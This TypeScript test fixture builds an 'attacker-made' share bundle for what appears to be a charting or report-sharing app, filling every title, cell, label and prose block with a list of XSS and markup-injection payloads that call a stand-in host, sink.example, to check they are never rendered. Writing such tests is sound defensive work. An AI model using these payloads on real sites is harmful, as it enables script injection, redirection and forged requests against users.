// A share bundle that an attacker made: texts that would ask for something, were they ever read as markup, in every place for a text.
import type { Bundle } from '#core/share/bundle.ts';
import { minimiseEdition } from '#core/share/minimise-edition.ts';
import type { SharedFilters } from '#core/share/shared-filter.ts';
import { chart, hashes, madeEdition, shownOf, tableOf } from '../unit/made-edition.ts';

/** Each would ask this address for something, were it ever read as markup. */
const SINK = 'https://sink.example';
export const payload = [
	`<img src="${SINK}/1" onerror="fetch('${SINK}/2')">`,
	`<script>location='${SINK}/3'</script>`,
	`<svg onload="fetch('${SINK}/4')"><image href="${SINK}/5"/></svg>`,
	`<iframe src="${SINK}/6"></iframe>`,
	`<object data="${SINK}/7"></object>`,
	`<embed src="${SINK}/8">`,
	`<video src="${SINK}/9" autoplay></video>`,
	`<audio src="${SINK}/10"></audio>`,
	`<link rel="stylesheet" href="${SINK}/11">`,
	`<link rel="prefetch" href="${SINK}/12">`,
	`<style>@import "${SINK}/13"; body { background: url(${SINK}/14) }</style>`,
	`<meta http-equiv="refresh" content="0;url=${SINK}/15">`,
	`<base href="${SINK}/">`,
	`<form action="${SINK}/16"><input autofocus onfocus="this.form.submit()"></form>`,
	`</script></title></style><script>fetch('${SINK}/20')</script>`,
	`<details open ontoggle="fetch('${SINK}/17')">`,
	`<a href="javascript:fetch('${SINK}/18')" ping="${SINK}">x</a>`,
	`![x](${SINK}/19) [x](javascript:alert(1))`,
	`\u202e"'\`}{{constructor.constructor('fetch("${SINK}")')()}}`
];

/** Such texts wherever a bundle has any. */
export function hostileBundle(): Bundle {
	const all = payload.join('\n');
	const cells = [...payload];
	const [source] = minimiseEdition(madeEdition, () => hashes).sources;
	const named = { title: all, subtitle: all, caption: all, xLabel: all, yLabel: all, unit: '<b>' };
	const edition = {
		...madeEdition,
		title: all,
		description: all,
		blocks: [
			...payload.map((text) => ({
				block: {
					kind: 'prose' as const,
					node: { kind: 'paragraph' as const, children: [{ kind: 'text' as const, text }] },
					values: [],
					place: chart.place
				},
				values: []
			})),
			{
				block: {
					kind: 'table' as const,
					...{ from: '', columns: [{ column: all, label: all, format: null }], order: [], limit: 100 },
					...{ title: all, span: 12 as const, place: chart.place }
				},
				shown: shownOf(tableOf({ name: all, type: 'text', values: cells }), [])
			},
			{
				block: {
					...chart,
					...named,
					type: 'bar' as const,
					annotations: [{ ...chart.annotations[0], text: all } as never]
				},
				shown: shownOf(
					tableOf(
						{ name: 'x', type: 'text', values: cells },
						{ name: 'y', type: 'number', values: cells.map((_, at) => at) }
					),
					[]
				)
			},
			{
				block: {
					...{ kind: 'input' as const, name: all, type: 'select' as const, from: all, column: all, options: [] },
					...{ label: all, value: null, isMultiple: true, span: 12 as const, place: chart.place }
				},
				shown: shownOf(tableOf(), []),
				value: null
			}
		]
	};
	const bundle = minimiseEdition(edition, () => hashes, filtersOf(payload.length + 2, payload.length + 1));
	return { ...bundle, sources: source ? [{ ...source, name: all }] : [] };
}

/** What there is to choose in the input at `at`, and the groups of the chart that it filters. */
function filtersOf(at: number, chartAt: number): SharedFilters {
	const names = [...payload];
	const grid = { x: { kind: 'names' as const, names }, y: null };
	const starts = names.map((_, cell) => cell);
	return {
		sources: [{ at, grid, coarse: null, isWhole: false, left: [] }],
		cubes: [
			{
				...{ at: chartAt, ask: 0, by: [0], whole: [], rank: null, limit: null, total: 'groups' },
				...{ series: null, xStep: null, yStep: null },
				keys: [{ name: 'x', type: 'text', values: names }],
				values: [{ name: 'y', type: 'number', merge: 'count', counts: null, numbers: null }],
				starts: [...starts, names.length, names.length],
				groups: starts,
				rows: starts
			}
		]
	};
}
